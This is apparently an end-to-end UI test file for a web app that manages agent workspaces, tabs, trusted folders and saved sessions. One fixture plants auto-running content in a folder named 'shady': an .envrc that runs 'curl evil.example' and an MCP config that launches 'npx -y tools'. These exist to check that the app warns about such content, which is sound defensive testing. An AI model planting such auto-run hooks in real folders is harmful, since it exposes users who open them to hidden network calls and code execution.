import { mkdir, writeFile } from "node:fs/promises";
import { join } from "node:path";
import type { Page } from "playwright-core";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import { goTo } from "../support/go-to.ts";
import { expectGoodForAll, poll, type Stand, startStand, tabTo } from "../support/stand.ts";

let stand: Stand;

beforeAll(async () => {
  stand = await startStand({
    async prepare(root) {
      for (const path of ["site/.git", "shady/.claude", "empty", "many", "keyed"])
        await mkdir(join(root, path), { recursive: true });
      for (let at = 0; at < 30; at += 1) await mkdir(join(root, "many", `package-${at}`));
      await writeFile(join(root, "site/.git/HEAD"), "ref: refs/heads/redesign\n");
      await writeFile(join(root, "empty/only-a-file.txt"), "");
      await writeFile(join(root, "shady/.envrc"), "curl evil.example");
      await writeFile(
        join(root, "shady/.mcp.json"),
        JSON.stringify({ mcpServers: { tools: { command: "npx", args: ["-y", "tools"] } } }),
      );
      const script = join(root, "tour.jsonl");
      await writeFile(script, `${JSON.stringify({ type: "text_delta", text: "Hello." })}\n`);
      return `[daemon]\nbrowse_root = "${root}"\n[replay.tour]\nscript = "${script}"\n`;
    },
  });
}, 120_000);
afterAll(() => stand?.dispose());
afterEach(() => stand.closePages());

const tabs = async () => (await stand.snapshot()).workspace.tabs;
const tabNames = (page: Page) => page.locator("main .tab-card h2").allTextContents();
const menuOf = (page: Page, name: string) => page.getByRole("button", { name: `More about ${name}` });
async function choose(page: Page, menu: string, item: string): Promise<void> {
  await page.getByRole("button", { name: menu }).click();
  await page.getByRole("menuitem", { name: item, exact: true }).click();
}
async function nameIt(page: Page, label: string, name: string, verb: string): Promise<void> {
  const dialog = page.getByRole("dialog");
  await dialog.getByLabel(label).fill(name);
  await dialog.getByRole("button", { name: verb }).click();
  await dialog.waitFor({ state: "detached" });
}

describe("a folder", () => {
  it.each(["phone", "desk"] as const)(
    "is found step by step, with what its repository has checked out, and opened: on a %s",
    async (size) => {
      const before = (await tabs()).length;
      const page = await stand.open("/", { size });
      await page.getByRole("button", { name: "Open a folder" }).click();
      const dialog = page.getByRole("dialog", { name: "Open a folder" });
      await dialog.getByText("redesign").waitFor();
      await expectGoodForAll(page);
      await dialog.getByRole("button", { name: "many" }).click();
      await dialog.getByLabel("Find a folder here").fill("GE-29");
      expect(
        await dialog
          .getByRole("list", { name: /^Folders in/ })
          .getByRole("listitem")
          .allTextContents(),
      ).toEqual(["package-29"]);
      await dialog
        .getByRole("navigation", { name: "The way to this folder" })
        .getByRole("button")
        .first()
        .click();
      await dialog.getByRole("button", { name: "empty", exact: true }).click();
      await dialog.getByText("No folders in here.").waitFor();
      await dialog
        .getByRole("navigation", { name: "The way to this folder" })
        .getByRole("button")
        .first()
        .click();
      await dialog.getByRole("button", { name: "site redesign" }).click();
      await dialog.getByRole("button", { name: "Open site" }).click();
      await dialog.waitFor({ state: "detached" });
      await page.locator("main .tab-card").getByRole("heading", { name: "site" }).waitFor();
      const opened = (await tabs()).slice(before);
      expect(opened.map(({ cwd, trusted }) => ({ cwd, trusted }))).toEqual([
        { cwd: join(stand.root, "site"), trusted: true },
      ]);
      await stand.command({ type: "tab_close", tab: opened[0]?.id });
    },
    90_000,
  );

  it("says what it brings along that runs by itself, and can be closed again at once", async () => {
    const page = await stand.open("/");
    await page.getByRole("button", { name: "Open a folder" }).click();
    await page.getByRole("dialog").getByRole("button", { name: "shady" }).click();
    await page.getByRole("dialog").getByRole("button", { name: "Open shady" }).click();
    const dialog = page.getByRole("dialog", { name: "This folder is trusted now" });
    await dialog.getByText("npx -y tools").waitFor();
    await dialog.getByText(".envrc", { exact: true }).waitFor();
    await expectGoodForAll(page);
    await dialog.getByRole("button", { name: "Close the tab again" }).click();
    await poll(async () => (await tabs()).map(({ name }) => name)).not.toContain("shady");
  }, 90_000);

  it("is opened by keyboard alone", async () => {
    const page = await stand.open("/", { size: "desk" });
    await page.keyboard.press("o");
    const dialog = page.getByRole("dialog", { name: "Open a folder" });
    await tabTo(page, dialog.getByRole("button", { name: "keyed" }));
    await page.keyboard.press("Enter");
    await tabTo(page, dialog.getByRole("button", { name: "Open keyed" }));
    await page.keyboard.press("Enter");
    await dialog.waitFor({ state: "detached" });
    await poll(() => tabNames(page)).toContain("keyed");
  }, 90_000);
});

describe("a tab", () => {
  it("is named, moved, closed and opened again", async () => {
    const page = await stand.open("/");
    await stand.command({ type: "tab_create", cwd: join(stand.root, "empty"), name: "last" });
    await poll(() => tabNames(page)).toContain("last");
    await choose(page, "More about last", "Rename");
    await expectGoodForAll(page);
    await nameIt(page, "Name", "scratch", "Rename");
    await poll(() => tabNames(page)).toContain("scratch");
    const at = (await tabNames(page)).indexOf("scratch");
    await choose(page, "More about scratch", "Move up");
    await poll(async () => (await tabNames(page)).indexOf("scratch")).toBe(at - 1);
    await choose(page, "More about scratch", "Close");
    await poll(() => tabNames(page)).not.toContain("scratch");
    await page.getByRole("button", { name: "Open again" }).click();
    await poll(() => tabNames(page)).toContain("scratch");
    await menuOf(page, "scratch").click();
    await expectGoodForAll(page);
  }, 90_000);

  it("runs something else from now on", async () => {
    const page = await stand.open("/");
    const { tab } = await stand.command({ type: "tab_create", cwd: stand.folder, name: "toured" });
    await poll(() => tabNames(page)).toContain("toured");
    await choose(page, "More about toured", "What runs in it");
    const dialog = page.getByRole("dialog", { name: "What runs in toured" });
    await dialog.getByLabel("Runs").selectOption("replay");
    await dialog.getByLabel("Model").selectOption("tour");
    await expectGoodForAll(page);
    await dialog.getByRole("button", { name: "Save" }).click();
    await dialog.waitFor({ state: "detached" });
    expect((await tabs()).find(({ id }) => id === tab)).toMatchObject({ runtime: "replay", model: "tour" });
    await page
      .locator(".tab-card", { hasText: "toured" })
      .getByRole("button", { name: "New conversation" })
      .click();
    await page.waitForURL(/#\/agent\//);
  }, 90_000);
});

describe("a workspace", () => {
  it("is made, named, filled, left and deleted", async () => {
    const page = await stand.open("/");
    // With one workspace nothing needs to be said of it.
    expect(await page.locator("main h1").textContent()).toBe("Work");
    const title = page.locator("main .page-lead");
    expect(await title.count()).toBe(0);
    await choose(page, "Workspaces", "New workspace");
    await nameIt(page, "Name", "travel", "Create");
    await poll(() => title.textContent()).toBe("Workspace travel");
    await page.getByText("No folder is open in this workspace").waitFor();
    await expectGoodForAll(page);
    await choose(page, "Workspaces", "Rename this one");
    await nameIt(page, "Name", "journey", "Rename");
    await poll(() => title.textContent()).toBe("Workspace journey");
    await page.getByRole("button", { name: "Workspaces" }).click();
    await page.getByRole("menuitemradio", { name: "main" }).click();
    await poll(() => title.textContent()).toBe("Workspace main");
    const { tab } = await stand.command({ type: "tab_create", cwd: stand.folder, name: "mover" });
    await poll(() => tabNames(page)).toContain("mover");
    await choose(page, "More about mover", "To another workspace");
    await page.getByRole("dialog", { name: "Move mover" }).waitFor();
    await expectGoodForAll(page);
    await page
      .getByRole("dialog")
      .getByRole("button", { name: /^journey/ })
      .click();
    await poll(() => tabNames(page)).not.toContain("mover");
    await page.getByRole("button", { name: "Workspaces" }).click();
    await page.getByRole("menuitemradio", { name: "journey" }).click();
    await poll(() => tabNames(page)).toEqual(["mover"]);
    await choose(page, "Workspaces", "Delete this one");
    await page.getByRole("dialog", { name: "Delete journey?" }).waitFor();
    await expectGoodForAll(page);
    await page.getByRole("button", { name: "Delete", exact: true }).click();
    await poll(() => title.count()).toBe(0);
    await poll(async () => (await stand.snapshot()).workspaces.map(({ name }) => name)).not.toContain(
      "journey",
    );
    expect((await tabs()).map(({ id }) => id)).not.toContain(tab);
  }, 120_000);

  it("is not deleted while another device looks at it, and the page says so", async () => {
    const { workspace } = await stand.command({ type: "workspace_create", name: "shared" });
    const [mine, others] = [await stand.open("/"), await stand.open("/", { size: "desk" })];
    for (const page of [mine, others]) {
      await page.getByRole("button", { name: "Workspaces" }).click();
      await page.getByRole("menuitemradio", { name: "shared" }).click();
      await poll(() => page.locator("main .page-lead").textContent()).toBe("Workspace shared");
    }
    await choose(mine, "Workspaces", "Delete this one");
    await mine.getByRole("button", { name: "Delete", exact: true }).click();
    await mine.locator(".toast.problem").waitFor();
    expect((await stand.snapshot()).workspaces.map(({ id }) => id)).toContain(workspace);
    expect(await others.locator("main .page-lead").textContent()).toBe("Workspace shared");
  }, 90_000);
});

describe("a device that may not do everything", () => {
  it("looks at the work without a way to change it", async () => {
    const page = await stand.open("/", { scopes: ["view"] });
    await poll(async () => (await tabNames(page)).length).toBeGreaterThan(0);
    for (const name of ["Open a folder", "New conversation", /^More about/])
      expect(await page.getByRole("button", { name }).count()).toBe(0);
    await page.getByRole("button", { name: "Workspaces" }).click();
    expect(await page.getByRole("menuitem").count()).toBe(0);
    await goTo(page, "/sessions");
    expect(await page.getByRole("button", { name: /^More about/ }).count()).toBe(0);
  }, 90_000);

  it("opens a folder that is not trusted by it, and is told so", async () => {
    await mkdir(join(stand.root, "unknown"));
    const page = await stand.open("/", { scopes: ["view", "drive"] });
    await page.getByRole("button", { name: "Open a folder" }).click();
    await page.getByRole("dialog").getByRole("button", { name: "unknown" }).click();
    await page.getByRole("dialog").getByRole("button", { name: "Open unknown" }).click();
    await page.getByRole("dialog").waitFor({ state: "detached" });
    const card = page.locator(".tab-card", { hasText: "unknown" });
    await card.getByText("Not trusted: only the shell runs here").waitFor();
    await choose(page, "More about unknown", "What runs in it");
    await page.getByRole("dialog").getByLabel("Runs").selectOption("replay");
    await page.getByRole("dialog").getByRole("button", { name: "Save" }).click();
    await page.locator(".toast.problem, .problem-text", { hasText: /trust/i }).waitFor();
  }, 90_000);
});

describe("the sessions", () => {
  async function talk(text: string): Promise<string> {
    const agent = String((await stand.command({ type: "agent_start", label: text })).agent);
    await stand.command({ type: "prompt", agent, text });
    await poll(
      async () => (await tabs()).flatMap(({ agents }) => agents).find(({ id }) => id === agent)?.state,
    ).toBe("waiting");
    await stand.command({ type: "cancel", agent });
    return agent;
  }

  it("are searched, and a closed one is read and opened again", async () => {
    const agent = await talk("touch the-lighthouse");
    await talk("touch the-harbour");
    await stand.command({ type: "agent_close", agent });
    const page = await stand.open("/sessions");
    await page.getByLabel("Search").fill("lighthouse");
    const list = page.getByRole("list", { name: "All" });
    await poll(() => list.getByRole("listitem").count()).toBe(1);
    await page.getByLabel("Search").fill("no such words");
    await page.getByText("Nothing was found").waitFor();
    await expectGoodForAll(page);
    await page.getByLabel("Search").fill("lighthouse");
    await choose(page, "More about touch the-lighthouse", "Open");
    await page.waitForURL(new RegExp(`#/agent/${agent}`));
    await poll(async () => (await tabs()).flatMap(({ agents }) => agents).map(({ id }) => id)).toContain(
      agent,
    );
  }, 90_000);

  it("are named, pinned, put away and deleted, also for whoever looks on", async () => {
    const agent = await talk("touch the-old-mill");
    await stand.command({ type: "agent_close", agent });
    const [page, onlooker] = [
      await stand.open("/sessions"),
      await stand.open("/sessions", { scopes: ["view"] }),
    ];
    await choose(page, "More about touch the-old-mill", "Rename");
    await nameIt(page, "Title", "The mill", "Rename");
    for (const one of [page, onlooker]) await one.getByText("The mill", { exact: true }).waitFor();
    await choose(page, "More about The mill", "Pin");
    await onlooker.getByRole("list", { name: "Pinned" }).getByText("The mill").waitFor();
    await expectGoodForAll(page);
    await choose(page, "More about The mill", "Put away");
    await page.getByRole("list", { name: "Pinned" }).waitFor({ state: "detached" });
    await page.getByRole("button", { name: /^Show 1 / }).click();
    await page.getByRole("list", { name: "Put away" }).getByText("The mill").waitFor();
    await choose(page, "More about The mill", "Delete");
    await page.getByRole("dialog", { name: "Delete this conversation?" }).waitFor();
    await expectGoodForAll(page);
    await page.getByRole("button", { name: "Delete", exact: true }).click();
    for (const one of [page, onlooker]) await poll(() => one.getByText("The mill").count()).toBe(0);
    expect((await stand.daemon.request("GET", `/api/sessions/${agent}`)).status).toBe(404);
  }, 120_000);

  it("that are open are not deleted", async () => {
    await talk("touch the-open-sea");
    const page = await stand.open("/sessions");
    await menuOf(page, "touch the-open-sea").click();
    expect(await page.getByRole("menuitem", { name: /^Delete/ }).isDisabled()).toBe(true);
  }, 90_000);

  it("that are damaged say so, and can be deleted", async () => {
    const id = "01a17453-00ff-7000-8000-0000000000ff";
    await writeFile(join(stand.daemon.home, "sessions", `${id}.jsonl`), "this is no record\n");
    const page = await stand.open("/sessions");
    await page.getByText("Its file is damaged").waitFor();
    await expectGoodForAll(page);
    await page.locator(".row", { hasText: "Its file is damaged" }).getByRole("button").click();
    expect(await page.getByRole("menuitem", { name: "Open" }).isDisabled()).toBe(true);
    await page.getByRole("menuitem", { name: "Delete" }).click();
    await page.getByRole("button", { name: "Delete", exact: true }).click();
    await poll(() => page.getByText("Its file is damaged").count()).toBe(0);
  }, 90_000);
});
